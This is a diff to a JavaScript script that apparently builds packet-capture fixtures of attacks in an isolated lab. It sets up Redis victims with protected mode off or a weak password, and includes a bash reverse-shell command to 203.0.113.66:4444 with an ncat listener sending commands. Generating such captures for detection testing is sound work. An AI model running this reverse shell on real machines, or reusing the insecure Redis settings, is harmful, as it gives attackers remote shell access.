@@ -17,7 +17,8 @@ const sh = (script) => rig.attack('bash', '-c', script);
 try {
   rig.open(['203.0.113.66', '10.42.3.57'], ['10.42.1.10']);
   const redis = (port, ...more) => rig.victim('redis-server', '--port', String(port), '--bind', '10.42.1.10', '--save', '', '--dir', '/tmp', '--daemonize', 'no', ...more);
-  redis(6379, '--protected-mode', 'no');
+  // Redis 7 guards these settings by itself; those of 2019 did not.
+  redis(6379, '--protected-mode', 'no', '--enable-protected-configs', 'yes');
   redis(6380, '--requirepass', 'x7Kp');
   await sleep(700);
   const cli = (port, ...args) => rig.attack('redis-cli', '-h', '10.42.1.10', '-p', String(port), ...args);
@@ -39,9 +40,10 @@ try {
   const s = 'shell/reverse-shell-prompt/';
   const listen = (port, commands) => rig.attack('bash', '-c', `(sleep 1; printf '${commands}'; sleep 1) | timeout 4 ncat -lnp ${port}`);
   await make(`${s}bash.pcap`, async () => {
-    const listener = listen(4444, 'id\\nuname -a\\nexit\\n');
+    const listener = listen(4444, 'id\\npwd\\nexit\\n');
     await sleep(400);
-    await rig.fromVictim('timeout', '4', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1');
+    // A host name and folder of its own, so that the prompt says nothing of the machine.
+    await rig.fromVictim('unshare', '--uts', 'bash', '-c', 'hostname web01; cd /var/tmp; HOME=/var/tmp exec timeout 4 bash -i >& /dev/tcp/203.0.113.66/4444 0>&1');
     await listener;
   });
   await make(`${s}sh-ncat.pcap`, async () => {
